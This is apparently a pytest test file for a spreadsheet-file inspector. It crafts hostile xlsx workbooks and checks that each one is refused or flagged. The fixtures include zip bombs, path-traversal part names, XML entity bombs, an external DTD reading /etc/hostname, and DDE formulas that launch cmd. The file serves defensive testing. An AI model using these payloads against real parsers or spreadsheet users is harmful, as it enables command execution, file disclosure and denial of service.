"""Hostile and odd workbook files, each made here: refused with the right code, or said in a note."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest
import xlsxwriter
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from wbgen.openxml import Limits, Package, UnsafeFile, inspect

TYPES = "[Content_Types].xml"
SHEET = "xl/worksheets/sheet1.xml"
PLAIN: Mapping[str, bytes] = {
    TYPES: b'<Types><Default Extension="xml" ContentType="application/xml"/></Types>',
    "xl/workbook.xml": b'<workbook><sheets><sheet name="Mix" sheetId="1"/></sheets></workbook>',
    SHEET: b'<worksheet><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>',
}


def zipped(parts: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(zipfile.ZipInfo(name), content, compress_type=method)
    return packed.getvalue()


def looked_at(folder: Path, content: bytes, limits: Limits | None = None) -> Package:
    path = folder / "planner.xlsx"
    path.write_bytes(content)
    return inspect(path, limits) if limits else inspect(path)


def refusal(folder: Path, content: bytes, limits: Limits | None = None) -> UnsafeFile:
    with pytest.raises(UnsafeFile) as caught:
        looked_at(folder, content, limits)
    return caught.value


def sheet(cells: str, after: str = "") -> bytes:
    return f"<worksheet><sheetData>{cells}</sheetData>{after}</worksheet>".encode()


def formula(text: str) -> bytes:
    return sheet(f'<row r="1"><c r="A1"><f>{text}</f></c></row>')


def directory_of(content: bytes | bytearray) -> int:
    return int(struct.unpack_from("<L", content, len(content) - 6)[0])


def test_a_plain_workbook_is_opened_without_a_word(tmp_path: Path) -> None:
    path = tmp_path / "plain.xlsx"
    with xlsxwriter.Workbook(path) as book:
        page = book.add_worksheet("Mix")
        page.write(0, 0, 2)
        page.write_formula(0, 1, "=A1*2")
        page.write_url(1, 0, "https://example.org/label")
        page.write_comment(0, 0, "a comment brings a .vml part")
        page.merge_range(3, 0, 4, 3, "merged")
    package = inspect(path)
    assert package.notes == ()
    with zipfile.ZipFile(path) as archive:
        assert set(package.parts) == set(archive.namelist())
        assert package.size == sum(part.file_size for part in archive.infolist())


@pytest.mark.parametrize("method", [zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED])
def test_both_ways_of_packing_are_read(tmp_path: Path, method: int) -> None:
    assert looked_at(tmp_path, zipped(PLAIN, method)).size == sum(map(len, PLAIN.values()))


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "not-a-zip"),
        (b"name,area\nTerrace,240\n", "not-a-zip"),
        (bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600), "old-or-encrypted"),
        (b"PK\3\4", "damaged-file"),
        (zipped(PLAIN)[:-30], "damaged-file"),
        (zipped(PLAIN)[:-1], "damaged-file"),
        (zipped(PLAIN) + b"more", "damaged-file"),
        (b"#!/bin/sh\n" + zipped(PLAIN), "not-a-zip"),
        (zipped({"note.txt": b"a zip of something else"}), "not-a-workbook"),
        (zipped({"mimetype": b"application/x", "content.xml": b"<office/>"}), "not-a-workbook"),
        (zipped({TYPES: PLAIN[TYPES], "xl/workbook.bin": b"\x83\x01"}), "not-a-workbook"),
        (zipped({TYPES: PLAIN[TYPES], "word/document.xml": b"<document/>"}), "not-a-workbook"),
    ],
)
def test_what_is_no_whole_workbook_is_refused(tmp_path: Path, content: bytes, code: str) -> None:
    assert refusal(tmp_path, content).code == code


def test_a_file_that_is_not_there_or_is_a_folder_is_refused(tmp_path: Path) -> None:
    for path in (tmp_path / "none.xlsx", tmp_path):
        with pytest.raises(UnsafeFile) as caught:
            inspect(path)
        assert caught.value.code == "unreadable"


def test_every_refusal_says_what_to_do(tmp_path: Path) -> None:
    refused = refusal(tmp_path, b"text")
    assert all((refused.code, refused.expected, refused.found, refused.remedy))
    assert str(refused) == f"not-a-zip: expected {refused.expected}, found {refused.found}; {refused.remedy}"


@pytest.mark.parametrize(
    "name",
    [
        "../evil.xml",
        "xl/../../evil.xml",
        "/etc/evil.xml",
        "xl\\evil.xml",
        "C:evil.xml",
        "xl//evil.xml",
        "xl/./evil.xml",
        "xl/e\x1bvil.xml",
        "x" * 300,
    ],
)
def test_a_name_that_leads_elsewhere_is_refused(tmp_path: Path, name: str) -> None:
    assert refusal(tmp_path, zipped({**PLAIN, name: b"<a/>"})).code == "bad-part-name"


def test_a_name_that_is_cut_at_a_null_by_others_is_refused(tmp_path: Path) -> None:
    content = zipped({**PLAIN, "xl/evil.xml#": b"<a/>"}).replace(b"xl/evil.xml#", b"xl/evil.xml\0")
    assert refusal(tmp_path, content).code == "bad-part-name"


def test_a_name_in_an_unstated_alphabet_is_refused(tmp_path: Path) -> None:
    content = zipped({**PLAIN, "xl/evil.xml": b"<a/>"}).replace(b"xl/evil.xml", b"xl/ev\xeel.xml")
    assert refusal(tmp_path, content).code == "bad-part-name"


@pytest.mark.parametrize("second", ["xl/workbook.xml", "XL/Workbook.xml"])
def test_a_part_that_is_there_twice_is_refused(tmp_path: Path, second: str) -> None:
    stand_in = "x" * len(second)
    content = zipped({**PLAIN, stand_in: b"<workbook/>"}).replace(stand_in.encode(), second.encode())
    assert refusal(tmp_path, content).code == "two-faced"


def test_a_part_with_another_name_in_its_own_header_is_refused(tmp_path: Path) -> None:
    content = zipped(PLAIN).replace(b"xl/workbook.xml", b"xl/wOrkbook.xml", 1)
    assert refusal(tmp_path, content).code == "two-faced"


def test_parts_that_share_their_bytes_are_refused(tmp_path: Path) -> None:
    content = bytearray(zipped({**PLAIN, "xl/a.xml": b"<a/>", "xl/b.xml": b"<a/>"}))
    outer, inner = content.index(b"xl/a.xml") - 30, content.index(b"xl/b.xml") - 30
    size = inner + 38 + struct.unpack_from("<L", content, inner + 18)[0] - (outer + 38)
    record = content.index(b"xl/a.xml", directory_of(content)) - 46
    struct.pack_into("<L", content, record + 20, size)
    assert refusal(tmp_path, bytes(content)).found == "parts that overlap"


def test_a_part_that_unpacks_without_end_is_refused_early(tmp_path: Path) -> None:
    bomb = zipped({**PLAIN, "xl/media/image1.png": bytes(40 << 20)})
    assert len(bomb) < 60_000
    refused = refusal(tmp_path, bomb)
    assert refused.code == "too-large"
    assert "times smaller" in refused.found


def test_the_sizes_of_one_part_of_all_and_of_the_file_are_limited(tmp_path: Path) -> None:
    noise = zlib.compress(bytes(range(256)) * 40)
    content = zipped({**PLAIN, "a.bin": noise * 20, "b.bin": noise * 20})
    size, total = 20 * len(noise), looked_at(tmp_path, content).size
    for limits in (
        Limits(part=size - 1),
        Limits(total=total - 1),
        Limits(file=len(content) - 1),
        Limits(parts=len(PLAIN) + 1),
        Limits(directory=100),
    ):
        assert refusal(tmp_path, content, limits).code == "too-large"
    edge = Limits(part=size, total=total, file=len(content), parts=len(PLAIN) + 2)
    assert looked_at(tmp_path, content, edge).size == total


def test_a_size_header_that_lies_is_found_out_by_the_bytes(tmp_path: Path) -> None:
    """zipfile stops at the size it is told and so does not see what follows; other readers do."""
    honest = PLAIN[SHEET]
    content = bytearray(zipped(PLAIN))
    record = content.index(SHEET.encode(), directory_of(content)) - 46
    struct.pack_into("<L", content, record + 16, zlib.crc32(honest[:20]))
    struct.pack_into("<L", content, record + 24, 20)
    (tmp_path / "lying.xlsx").write_bytes(content)
    with zipfile.ZipFile(tmp_path / "lying.xlsx") as archive:
        assert archive.read(SHEET) == honest[:20]
    refused = refusal(tmp_path, bytes(content))
    assert refused.code == "damaged-file"
    assert f"{len(honest)} bytes where the directory says 20" in refused.found


def test_a_bomb_that_says_it_is_small_is_refused(tmp_path: Path) -> None:
    content = bytearray(zipped({**PLAIN, "xl/media/a.bin": bytes(8 << 20)}))
    struct.pack_into("<L", content, content.index(b"xl/media/a.bin", directory_of(content)) - 46 + 24, 100)
    assert refusal(tmp_path, bytes(content)).code == "too-large"


def test_a_hundred_thousand_parts_are_refused_before_the_directory_is_read(tmp_path: Path) -> None:
    name, local, central = b"xl/a", struct.Struct("<4s5H3L2H"), struct.Struct("<4s6H3L5H2L")
    records = [
        central.pack(b"PK\1\2", 20, 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0, 0, 0, 0, 0, 0) + name for _ in range(100_000)
    ]
    head = local.pack(b"PK\3\4", 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0) + name
    directory = b"".join(records)
    for count in (len(records) & 0xFFFF, 3):
        end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, len(directory), len(head), 0)
        assert refusal(tmp_path, head + directory + end).code == "too-large"


def test_a_directory_that_miscounts_itself_is_refused(tmp_path: Path) -> None:
    content = bytearray(zipped(PLAIN))
    struct.pack_into("<2H", content, len(content) - 14, 2, 2)
    assert refusal(tmp_path, bytes(content)).code == "damaged-file"


def test_zip64_is_refused_since_readers_disagree_about_it(tmp_path: Path) -> None:
    content = zipped(PLAIN)
    locator = struct.pack("<4sLQL", b"PK\6\7", 0, 0, 1)
    end = bytearray(content[-22:])
    struct.pack_into("<L", end, 12, len(content) - 22 - directory_of(content) + len(locator))
    assert refusal(tmp_path, content[:-22] + locator + bytes(end)).found == (
        "a zip directory that is not where the file says it is"
    )


def test_an_encrypted_part_is_refused(tmp_path: Path) -> None:
    content = bytearray(zipped(PLAIN))
    content[directory_of(content) + 8] |= 1
    assert refusal(tmp_path, bytes(content)).code == "old-or-encrypted"


def test_an_unknown_way_of_packing_is_refused(tmp_path: Path) -> None:
    assert refusal(tmp_path, zipped(PLAIN, zipfile.ZIP_BZIP2)).code == "damaged-file"


def test_a_wrong_checksum_is_refused(tmp_path: Path) -> None:
    content = zipped(PLAIN, zipfile.ZIP_STORED).replace(b"<v>1</v>", b"<v>2</v>")
    assert refusal(tmp_path, content).found.endswith("with a wrong checksum")


BOMB = '<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><worksheet>&b;</worksheet>'
OUTSIDE = '<!DOCTYPE worksheet SYSTEM "file:///etc/hostname"><worksheet/>'


@pytest.mark.parametrize("text", [BOMB, OUTSIDE, '<?xml version="1.0"?><!-- a --><!DOCTYPE worksheet><worksheet/>'])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
@pytest.mark.parametrize("part", [SHEET, "docProps/app.xml", "xl/_rels/workbook.xml.rels", "xl/media/image1.png"])
def test_a_document_type_is_refused_in_any_part_and_encoding(
    tmp_path: Path, text: str, encoding: str, part: str
) -> None:
    marked = text.encode(encoding)
    if encoding in ("utf-16-le", "utf-16-be"):
        marked = "\ufeff".encode(encoding) + marked
    assert refusal(tmp_path, zipped({**PLAIN, part: marked})).code == "document-type"


def test_a_document_type_is_refused_in_utf_16_without_its_mark(tmp_path: Path) -> None:
    for encoding in ("utf-16-le", "utf-16-be"):
        assert refusal(tmp_path, zipped({**PLAIN, SHEET: BOMB.encode(encoding)})).code == "document-type"


@pytest.mark.parametrize("encoding", ["utf-7", "utf-32", "iso-8859-1", "cp037"])
def test_another_encoding_is_refused(tmp_path: Path, encoding: str) -> None:
    content = f'<?xml version="1.0" encoding="{encoding}"?>{BOMB}'.encode(encoding)
    assert refusal(tmp_path, zipped({**PLAIN, SHEET: content})).code in ("odd-encoding", "damaged-file")


def test_bottomless_nesting_is_refused(tmp_path: Path) -> None:
    deep = b"<a>" * 200_000 + b"</a>" * 200_000
    assert refusal(tmp_path, zipped({**PLAIN, SHEET: deep}), Limits(ratio=10_000)).code == "too-deep"


def test_xml_that_is_not_well_formed_is_refused_but_in_drawings_of_comments(tmp_path: Path) -> None:
    assert refusal(tmp_path, zipped({**PLAIN, SHEET: b"<worksheet><row></worksheet>"})).code == "damaged-file"
    looked_at(tmp_path, zipped({**PLAIN, "xl/drawings/v.vml": b"<xml><br>text</xml>" + bytes(70_000)}))
    assert refusal(tmp_path, zipped({**PLAIN, "xl/drawings/v.vml": BOMB.encode()})).code == "document-type"
    assert refusal(tmp_path, zipped({**PLAIN, "xl/drawings/v.vml": b"text"})).code == "damaged-file"


@pytest.mark.parametrize(
    "cells",
    [
        '<row r="1"><c r="A1"/></row><row r="1048576"><c r="XFD1048576"/></row>',
        '<row r="1"><c/></row><row r="9999999"><c/><c/></row>',
    ],
)
def test_cells_far_apart_are_refused_with_advice(tmp_path: Path, cells: str) -> None:
    refused = refusal(tmp_path, zipped({**PLAIN, SHEET: sheet(cells)}))
    assert refused.code == "too-wide"
    assert "delete" in refused.remedy


def test_a_single_far_cell_is_no_trouble(tmp_path: Path) -> None:
    assert looked_at(tmp_path, zipped({**PLAIN, SHEET: sheet('<row><c r="XFD1048576"/></row>')})).notes == ()


def test_a_sheet_merged_whole_is_refused(tmp_path: Path) -> None:
    """openpyxl makes a record of each merged cell: 5 million took 51 s and 1.4 GB."""
    merged = '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    assert refusal(tmp_path, zipped({**PLAIN, SHEET: sheet("", merged)})).code == "too-large"
    looked_at(tmp_path, zipped({**PLAIN, SHEET: sheet("", merged.replace("1048576", "6"))}))


@pytest.mark.parametrize("cells", ['<row r="-1"/>', '<row r="1"><c r="A"/></row>', '<row r="1"><c r="A1٣"/></row>'])
def test_an_address_that_is_none_is_refused(tmp_path: Path, cells: str) -> None:
    assert refusal(tmp_path, zipped({**PLAIN, SHEET: sheet(cells)})).code == "damaged-file"


RELATIONSHIP = (
    '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{}" Target="{}" TargetMode="{}"/></Relationships>'
)


@pytest.mark.parametrize(
    ("part", "content", "code"),
    [
        ("xl/vbaProject.bin", b"\xd0\xcf", "macros"),
        ("xl/macrosheets/sheet1.xml", b"<macrosheet/>", "macros"),
        ("customUI/customUI.xml", b"<customUI/>", "macros"),
        (
            TYPES,
            b'<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
            "macros",
        ),
        ("xl/externalLinks/externalLink1.xml", b"<externalLink/>", "external-link"),
        ("xl/externalLinks/externalLink1.xml", b'<externalLink><ddeLink ddeService="cmd"/></externalLink>', "dde"),
        ("xl/connections.xml", b"<connections/>", "data-connection"),
        ("xl/queryTables/queryTable1.xml", b"<queryTable/>", "data-query"),
        ("customXml/item1.xml", b"<DataMashup>AAAA</DataMashup>", "data-query"),
        ("xl/embeddings/oleObject1.bin", b"\xd0\xcf", "embedded-object"),
        ("xl/activeX/activeX1.xml", b"<ocx/>", "embedded-object"),
        (SHEET, formula("cmd|'/c calc'!A0"), "dde"),
        (SHEET, formula("'cmd'|'/c calc'!A0"), "dde"),
        (SHEET, formula('WEBSERVICE("http://example.org/"&amp;A1)'), "reaches-out"),
        ("xl/workbook.xml", b"<workbook><definedName name='a'>cmd|'/c calc'!A0</definedName></workbook>", "dde"),
        ("xl/workbook.xml", b'<workbook><sheet name="Old" state="hidden"/></workbook>', "hidden-sheet"),
        ("xl/workbook.xml", b'<workbook><sheet name="Old" state="veryHidden"/></workbook>', "hidden-sheet"),
        ("xl/_rels/x.rels", RELATIONSHIP.format("attachedTemplate", "//host/x", "External").encode(), "outside-target"),
    ],
)
def test_what_is_unusual_is_said_and_not_followed(tmp_path: Path, part: str, content: bytes, code: str) -> None:
    package = looked_at(tmp_path, zipped({**PLAIN, part: content}))
    said = [note for note in package.notes if note.code == code]
    assert [note.part for note in said] == [part]
    assert said[0].text


@pytest.mark.parametrize(
    ("part", "content"),
    [
        (SHEET, formula('IF(A2="a|b",\'x|y\'!A1,"WEBSERVICE(")')),
        (SHEET, formula("RECALL(A1)")),
        ("xl/_rels/x.rels", RELATIONSHIP.format("hyperlink", "https://example.org/", "External").encode()),
        ("xl/_rels/x.rels", RELATIONSHIP.format("worksheet", "worksheets/sheet1.xml", "Internal").encode()),
        ("xl/workbook.xml", b'<workbook><sheet name="Mix" state="visible"/></workbook>'),
    ],
)
def test_what_is_usual_is_not_said(tmp_path: Path, part: str, content: bytes) -> None:
    assert looked_at(tmp_path, zipped({**PLAIN, part: content})).notes == ()


def test_each_hidden_sheet_is_named(tmp_path: Path) -> None:
    hidden = b'<workbook><sheet name="One" state="hidden"/><sheet name="Two" state="hidden"/></workbook>'
    notes = looked_at(tmp_path, zipped({**PLAIN, "xl/workbook.xml": hidden})).notes
    assert [note.text for note in notes] == ["The sheet 'One' is hidden", "The sheet 'Two' is hidden"]


def refused_or_opened(folder: Path, content: bytes) -> str:
    """The code of the refusal, or "" for a file that is opened. Anything else raised fails the test."""
    try:
        looked_at(folder, content)
    except UnsafeFile as refused:
        return refused.code
    return ""


same_folder = settings(suppress_health_check=[HealthCheck.function_scoped_fixture])


@same_folder
@given(st.binary(max_size=400), st.sampled_from([b"", b"PK\3\4", zipped(PLAIN)[:40]]))
def test_noise_is_refused_and_nothing_else_happens(tmp_path: Path, noise: bytes, start: bytes) -> None:
    assert refused_or_opened(tmp_path, start + noise)


@same_folder
@given(st.data())
def test_a_workbook_with_bytes_changed_is_refused_or_opened(tmp_path: Path, data: st.DataObject) -> None:
    content = bytearray(zipped(PLAIN, data.draw(st.sampled_from([zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED]))))
    for _ in range(data.draw(st.integers(1, 4))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    refused_or_opened(tmp_path, bytes(content))


@same_folder
@given(st.integers(0, 10_000))
def test_a_workbook_cut_short_is_refused(tmp_path: Path, cut: int) -> None:
    content = zipped(PLAIN)
    assert refused_or_opened(tmp_path, content[: cut % len(content)])


@pytest.mark.parametrize("wrap", [lambda text: f"<worksheet>{text}", lambda text: f"<worksheet {text}/>"])
def test_noise_in_place_of_a_sheet_is_refused(tmp_path: Path, wrap: Callable[[str], str]) -> None:
    for noise in ("&a;", "\x01", "<", "]]>", "r='"):
        assert refused_or_opened(tmp_path, zipped({**PLAIN, SHEET: wrap(noise).encode()})) == "damaged-file"
